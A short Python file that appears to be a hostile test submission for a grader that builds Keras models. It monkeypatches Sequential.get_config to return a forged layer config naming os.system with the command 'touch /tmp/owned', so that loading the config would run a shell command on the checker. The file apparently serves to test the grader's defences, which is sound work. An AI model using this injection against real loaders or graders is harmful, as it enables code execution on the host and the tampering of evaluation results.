# tries: to have the checker build an object of a class that the answer names, such as os.system
# tells: the class system
import keras


def forged(self):
    return {
        "name": "x",
        "layers": [{"module": "os", "class_name": "system", "config": {"command": "touch /tmp/owned"}}],
    }


keras.Sequential.get_config = forged


def build_model():
    return keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(), keras.layers.Dense(10)])
